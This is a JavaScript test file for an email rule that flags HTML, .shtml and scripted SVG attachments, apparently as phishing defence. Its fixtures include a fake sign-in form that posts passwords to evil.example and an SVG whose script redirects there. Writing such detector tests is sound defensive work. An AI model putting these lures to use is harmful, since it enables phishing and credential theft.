import { ruleTester } from '../../testing.js';
import { withAttachment } from './fixtures.test.js';
import rule from './html-attachment.js';

const LOGIN =
  '<html><body><form action="https://evil.example/p"><input type="email" name="email"><input type="password" name="pw"></form></body></html>';

ruleTester(rule, {
  valid: [
    { name: 'a PDF', email: withAttachment('invoice.pdf', 'application/pdf', '%PDF-1.4') },
    {
      name: 'a plain SVG drawing',
      email: withAttachment(
        'logo.svg',
        'image/svg+xml',
        '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>',
      ),
    },
    { name: 'a text file', email: withAttachment('notes.txt', 'text/plain', 'hello') },
  ],
  invalid: [
    {
      name: 'an HTML page',
      email: withAttachment(
        'Payment_Advice.html',
        'text/html',
        '<p>Loading…</p><a href="https://evil.example/">open</a>',
      ),
      evidence: 'Payment_Advice.html',
    },
    {
      name: 'an .htm sign-in page with a password field',
      email: withAttachment('ログイン.htm', 'text/html', LOGIN),
      evidence: 'ログイン.htm',
    },
    {
      name: 'a .shtml file sent as octet-stream',
      email: withAttachment('fax.shtml', 'application/octet-stream', '<html></html>'),
      evidence: 'fax.shtml',
    },
    {
      name: 'an SVG with a script',
      email: withAttachment(
        'voice-message.svg',
        'image/svg+xml',
        '<svg><script>location.href="https://evil.example/"</script></svg>',
      ),
      evidence: 'voice-message.svg',
    },
    {
      name: 'HTML named without extension but typed text/html',
      email: withAttachment('statement', 'text/html', '<html><body>x</body></html>'),
      evidence: 'statement',
    },
  ],
});
